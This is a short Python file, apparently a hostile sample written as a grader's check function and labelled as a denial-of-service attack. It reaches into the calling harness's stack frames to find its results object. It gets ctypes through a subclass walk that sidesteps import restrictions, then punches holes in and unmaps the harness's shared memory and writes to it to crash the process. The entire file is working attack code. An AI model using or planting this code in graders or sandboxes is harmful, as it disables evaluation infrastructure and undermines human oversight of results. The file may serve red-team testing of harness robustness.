# goal: punch holes into the shared memory, unmap it, and write again
# kind: dos
def its_results():
    frame = __import__("sys")._getframe()
    while "results" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["results"]


def ctypes():
    found = next(cls for cls in object.__subclasses__() if cls.__name__ == "CDLL")
    return found.__init__.__globals__


def check(output, row):
    types, memory = ctypes(), its_results()._memory
    address = types["addressof"](types["c_char"].from_buffer(memory))
    libc = types["CDLL"](None)
    libc.madvise(types["c_void_p"](address), types["c_size_t"](len(memory)), 9)
    libc.munmap(types["c_void_p"](address), types["c_size_t"](len(memory)))
    memory[0] = 1
    return False
